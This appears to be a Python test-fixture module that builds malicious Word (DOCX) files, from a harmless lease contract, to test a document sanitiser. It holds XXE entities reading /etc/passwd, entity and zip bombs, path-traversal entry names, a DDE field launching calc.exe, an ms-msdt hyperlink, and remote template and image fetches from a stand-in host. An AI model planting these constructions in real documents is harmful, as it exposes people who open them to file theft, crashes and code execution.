"""DOCX files that do harm, each made by hand from a harmless one."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Mapping

from tests.docx.contracts import parts, picture, plain

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WORD = "word/document.xml"
RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
ANYWHERE = "http://198.51.100.7/a"


def packed(files: Mapping[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def changed(
    *,
    body: str = "",
    rel: str = "",
    files: Mapping[str, bytes] | None = None,
    types: str = "",
    settings: str = "",
) -> bytes:
    """A plain contract with more in its body, its relationships, its settings and its package."""
    known = parts(plain())
    known[WORD] = known[WORD].replace(b"<w:sectPr", body.encode() + b"<w:sectPr", 1)
    known[RELS] = known[RELS].replace(b"</Relationships>", rel.encode() + b"</Relationships>")
    known[TYPES] = known[TYPES].replace(b"</Types>", types.encode() + b"</Types>")
    if settings:
        known["word/settings.xml"] = known["word/settings.xml"].replace(
            b"</w:settings>", settings.encode() + b"</w:settings>"
        )
    return packed({**known, **(files or {})})


def rel(kind: str, target: str, *, external: bool = True, name: str = "rIdX") -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{name}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'


def para(inside: str) -> str:
    return f"<w:p><w:r>{inside}</w:r></w:p>"


def field(instruction: str, result: str = "resultado") -> str:
    """A complex field, its instruction cut into single letters as attackers do."""
    pieces = "".join(
        f'<w:r><w:instrText xml:space="preserve">{one}</w:instrText></w:r>' for one in instruction
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{pieces}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def simple_field(instruction: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>resultado</w:t></w:r></w:fldSimple></w:p>'


def built_field() -> str:
    """A field whose name another field writes: QUOTE 68 68 69 says DDE."""
    begin, end = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    )
    middle = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    inner = (
        f"{begin}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{middle}<w:r><w:t>DDE</w:t></w:r>{end}"
    )
    rest = '<w:r><w:instrText xml:space="preserve"> c:\\\\windows\\\\calc.exe</w:instrText></w:r>'
    return f"<w:p>{begin}{inner}{rest}{middle}<w:r><w:t>resultado</w:t></w:r>{end}</w:p>"


def blip(attributes: str, inside: str = "") -> str:
    return para(
        '<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="900000" cy="300000"/><wp:docPr id="1" name="x"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
        '<pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        f'<a:blip xmlns:r="{OFFICE}" {attributes}>{inside}</a:blip></pic:blipFill><pic:spPr/></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing>"
    )


PICTURE = {"word/media/image9.png": picture()}
PICTURE_TYPE = '<Default Extension="png" ContentType="image/png"/>'
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
    b'<image xlink:href="http://198.51.100.7/a.png" width="9" height="9"/></svg>'
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


# Refused.


def text() -> bytes:
    return b"Contrato de arrendamiento, en texto."


def html() -> bytes:
    return b'<html><img src="http://198.51.100.7/a"></html>'


def pdf() -> bytes:
    return b"%PDF-1.7\n"


def old_word() -> bytes:
    return OLE


def spreadsheet() -> bytes:
    known = parts(plain())
    known[TYPES] = known[TYPES].replace(b"wordprocessingml.document.main", b"spreadsheetml.sheet.main")
    return packed(known)


def only_zip() -> bytes:
    return packed({"a.txt": b"a"})


def opc_without_document() -> bytes:
    known = parts(plain())
    del known[WORD]
    return packed(known)


def password() -> bytes:
    return OLE + "EncryptedPackage".encode("utf-16-le")


def zip_encryption() -> bytes:
    content = bytearray(plain())
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(magic)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(magic, at + 4)
    return bytes(content)


def macros() -> bytes:
    return changed(
        files={"word/vbaProject.bin": OLE},
        rel='<Relationship Id="rIdX" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>',
        types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )


def macros_unreferenced() -> bytes:
    return changed(files={"word/VBAproject.bin": OLE})


def docm() -> bytes:
    known = parts(plain())
    known[TYPES] = known[TYPES].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return packed(known)


def _with_doctype(doctype: bytes, use: bytes = b"", *, encoding: str = "utf-8") -> bytes:
    known = parts(plain())
    content = known[WORD]
    at = content.index(b"<w:document")
    head = b'<?xml version="1.0" encoding="' + encoding.encode() + b'"?>'
    content = head + doctype + content[at:].replace(b"</w:t>", use + b"</w:t>", 1)
    known[WORD] = content.decode().encode(encoding) if encoding != "utf-8" else content
    return packed(known)


def dtd() -> bytes:
    return _with_doctype(b"<!DOCTYPE w:document>")


def xxe() -> bytes:
    return _with_doctype(b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b"&x;")


def xxe_in_utf16() -> bytes:
    return _with_doctype(b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b"&x;", encoding="utf-16")


def billion_laughs() -> bytes:
    entities = '<!ENTITY a0 "ja">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11))
    return _with_doctype(f"<!DOCTYPE d [{entities}]>".encode(), b"&a10;")


def dtd_in_relationships() -> bytes:
    known = parts(plain())
    known[RELS] = b'<!DOCTYPE Relationships [<!ENTITY x "y">]>' + known[RELS].partition(b"?>")[2].lstrip()
    return packed(known)


def dtd_in_custom_xml() -> bytes:
    return changed(
        files={"customXml/item9.xml": b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'},
        rel=rel("customXml", "../customXml/item9.xml", external=False),
    )


def other_encoding() -> bytes:
    return _with_doctype(b"", encoding="utf-7")


def external_image() -> bytes:
    return changed(body=blip('r:link="rIdX"'), rel=rel("image", ANYWHERE))


def local_image() -> bytes:
    return changed(body=blip('r:link="rIdX"'), rel=rel("image", "file:///etc/hostname"))


def image_of_internal_mode_that_is_an_address() -> bytes:
    return changed(body=blip('r:embed="rIdX"'), rel=rel("image", "file:///etc/hostname", external=False))


def image_on_a_share() -> bytes:
    return changed(body=blip('r:embed="rIdX"'), rel=rel("image", r"\\198.51.100.7\a.png", external=False))


def vml_image() -> bytes:
    return changed(
        body=para(
            '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt">'
            f'<v:imagedata src="{ANYWHERE}"/></v:shape></w:pict>'
        )
    )


def external_header() -> bytes:
    return changed(rel=rel("header", ANYWHERE))


def sub_document() -> bytes:
    return changed(body=f'<w:subDoc xmlns:r="{OFFICE}" r:id="rIdX"/>', rel=rel("subDocument", "otro.docx"))


def alt_chunk() -> bytes:
    return changed(
        body=f'<w:altChunk xmlns:r="{OFFICE}" r:id="rIdX"/>',
        rel=rel("aFChunk", "chunk.html", external=False),
        files={"word/chunk.html": html()},
        types='<Default Extension="html" ContentType="text/html"/>',
    )


def postscript_picture() -> bytes:
    return changed(
        body=blip('r:embed="rIdX"'),
        rel=rel("image", "media/a.png", external=False),
        files={"word/media/a.png": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file"},
        types=PICTURE_TYPE,
    )


def svg_that_fetches() -> bytes:
    return changed(
        body=blip('r:embed="rIdX"'),
        rel=rel("image", "media/a.png", external=False),
        files={"word/media/a.png": SVG},
        types=PICTURE_TYPE,
    )


def picture_of_ten_gigapixels() -> bytes:
    content = bytearray(picture())
    content[16:24] = struct.pack(">II", 100_000, 100_000)
    return changed(
        body=blip('r:embed="rIdX"'),
        rel=rel("image", "media/a.png", external=False),
        files={"word/media/a.png": bytes(content)},
        types=PICTURE_TYPE,
    )


def duplicate_entries() -> bytes:
    out = io.BytesIO(plain())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "a") as archive:
            archive.writestr(WORD, parts(plain("Otro contrato."))[WORD])
    return out.getvalue()


def duplicate_entries_by_case() -> bytes:
    known = parts(plain())
    return packed({**known, "WORD/Document.xml": known[WORD]})


def absolute_name() -> bytes:
    return changed(files={"/etc/cron.d/x": b"x"})


def climbing_name() -> bytes:
    return changed(files={"word/../../x": b"x"})


def backslash_name() -> bytes:
    return changed(files={"..\\x": b"x"})


def _bomb(size: int) -> bytes:
    known = parts(plain())
    start, end = known[WORD].split(b"</w:t>", 1)
    return packed({**known, WORD: start + b" " * size + b"</w:t>" + end})


def bomb_of_one_part() -> bytes:
    """About 400 kB that unpack to 400 MB."""
    return _bomb(400 * 1024 * 1024)


def bomb_below_the_size_of_parts() -> bytes:
    return _bomb(40 * 1024 * 1024)


def bomb_of_many_parts() -> bytes:
    zeros = bytes(10 * 1024 * 1024)
    return changed(files={f"word/media/{n}.bin": zeros for n in range(25)})


def bomb_that_lies() -> bytes:
    """Declares one kilobyte for a part that unpacks to 30 MB."""
    content = bytearray(_bomb(30 * 1024 * 1024))
    for magic, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = content.find(magic)
        while at >= 0:
            if content[at + offset : at + offset + 4] > b"" and (
                struct.unpack_from("<I", content, at + offset)[0] > 1024 * 1024
            ):
                struct.pack_into("<I", content, at + offset, 1024)
            at = content.find(magic, at + 4)
    return bytes(content)


def too_many_entries() -> bytes:
    return changed(files={f"word/media/{n}.txt": b"x" for n in range(1001)})


def overlapping_entries() -> bytes:
    """Every entry of the directory leads to the same bytes."""
    content = bytearray(packed({f"a{n}": b"x" * 5000 for n in range(40)}, method=zipfile.ZIP_STORED))
    at, first = content.find(b"PK\x01\x02"), True
    while at >= 0:
        if not first:
            struct.pack_into("<I", content, at + 42, 0)
        first = False
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


def truncated() -> bytes:
    content = plain()
    return content[: len(content) // 2]


def broken_checksum() -> bytes:
    content = bytearray(packed(parts(plain()), method=zipfile.ZIP_STORED))
    at = content.find(b"Contrato de")
    content[at] = ord("X")
    return bytes(content)


def broken_xml() -> bytes:
    known = parts(plain())
    return packed({**known, WORD: known[WORD].replace(b"</w:body>", b"")})


def deep_xml() -> bytes:
    known = parts(plain())
    nested = b"<w:p>" * 100_000 + b"</w:p>" * 100_000
    return packed({**known, WORD: known[WORD].replace(b"<w:sectPr", nested + b"<w:sectPr", 1)})


# Neutralised.


def attached_template() -> bytes:
    known = parts(changed(settings=f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rId1"/>'))
    known["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + rel("attachedTemplate", "http://198.51.100.7/t.dotm", name="rId1")
        + "</Relationships>"
    ).encode()
    return packed(known)


def mail_merge_source() -> bytes:
    known = parts(
        changed(settings=f'<w:mailMerge xmlns:r="{OFFICE}"><w:dataSource r:id="rId1"/></w:mailMerge>')
    )
    known["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + rel("mailMergeSource", "file:///c:/clientes.mdb", name="rId1")
        + "</Relationships>"
    ).encode()
    return packed(known)


def ole_object() -> bytes:
    return changed(
        body=para(
            '<w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt">'
            f'<v:imagedata xmlns:r="{OFFICE}" r:id="rIdP"/></v:shape>'
            f'<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="{OFFICE}" Type="Embed" '
            'ProgID="Package" r:id="rIdX"/></w:object>'
        ),
        rel=rel("oleObject", "embeddings/o.bin", external=False)
        + rel("image", "media/image9.png", external=False, name="rIdP"),
        files={"word/embeddings/o.bin": OLE, **PICTURE},
        types=PICTURE_TYPE + '<Default Extension="bin" ContentType="application/vnd.ms-office.oleObject"/>',
    )


def linked_ole_object() -> bytes:
    return changed(rel=rel("oleObject", "file:///c:/hoja.xlsx"))


def activex() -> bytes:
    return changed(
        body=para(f'<w:control xmlns:r="{OFFICE}" r:id="rIdX" w:name="x"/>'),
        rel=rel("control", "activeX/activeX1.xml", external=False),
        files={"word/activeX/activeX1.xml": b"<ax/>"},
    )


def picture_embedded_and_linked() -> bytes:
    return changed(
        body=blip('r:embed="rIdP" r:link="rIdX"'),
        rel=rel("image", ANYWHERE) + rel("image", "media/image9.png", external=False, name="rIdP"),
        files=PICTURE,
        types=PICTURE_TYPE,
    )


def svg_beside_a_picture() -> bytes:
    return changed(
        body=blip(
            'r:embed="rIdP"',
            '<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip '
            'xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rIdX"/></a:ext></a:extLst>',
        ),
        rel=rel("image", "media/a.svg", external=False)
        + rel("image", "media/image9.png", external=False, name="rIdP"),
        files={"word/media/a.svg": SVG, **PICTURE},
        types=PICTURE_TYPE + '<Default Extension="svg" ContentType="image/svg+xml"/>',
    )


def hyperlink_to_a_file() -> bytes:
    return changed(
        body=f'<w:p><w:hyperlink xmlns:r="{OFFICE}" r:id="rIdX"><w:r><w:t>resultado</w:t></w:r></w:hyperlink></w:p>',
        rel=rel("hyperlink", "file:///c:/windows/calc.exe"),
    )


def hyperlink_to_a_handler() -> bytes:
    return changed(
        body=f'<w:p><w:hyperlink xmlns:r="{OFFICE}" r:id="rIdX"><w:r><w:t>resultado</w:t></w:r></w:hyperlink></w:p>',
        rel=rel("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    )


def macro_of_a_form_field() -> bytes:
    return changed(
        body=para(
            '<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="x"/></w:ffData></w:fldChar>'
            '<w:instrText>FORMTEXT</w:instrText><w:fldChar w:fldCharType="end"/>'
        )
    )


def customised_keys() -> bytes:
    return changed(
        rel='<Relationship Id="rIdX" Type="http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations" '
        'Target="customizations.xml"/>',
        files={"word/customizations.xml": b"<x/>"},
    )


def unknown_part() -> bytes:
    return changed(
        rel=rel("somethingNew", "new.bin", external=False),
        files={"word/new.bin": b"x"},
        types='<Default Extension="bin" ContentType="application/octet-stream"/>',
    )
